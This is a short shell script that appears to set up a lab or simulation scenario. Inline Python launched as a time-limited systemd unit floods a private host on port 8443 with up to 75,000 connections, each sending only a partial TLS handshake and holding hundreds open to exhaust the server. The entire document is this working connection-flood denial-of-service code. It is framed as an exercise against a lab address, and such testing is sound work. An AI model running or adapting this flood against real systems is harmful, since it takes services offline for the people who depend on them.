# Somebody opens connections to the shop's door as fast as it can and says the first word only: 75,000 in all, for 300 s at most.
ip address add 10.213.77.200/24 dev eth0 2>/dev/null || true
systemctl is-active --quiet flood.service || systemd-run --quiet --unit=flood --property=RuntimeMaxSec=300 \
  --property=LimitNOFILE=4096 /usr/bin/python3 -c '
import socket, time
from collections import deque
held = deque()
for number in range(75_000):
    try:
        held.append(socket.create_connection(("10.213.77.11", 8443), 1, ("10.213.77.200", 0)))
        held[-1].send(b"\x16\x03\x01")
    except OSError:
        time.sleep(0.05)
    if len(held) > 900:
        held.popleft().close()
    time.sleep(0.004)
'
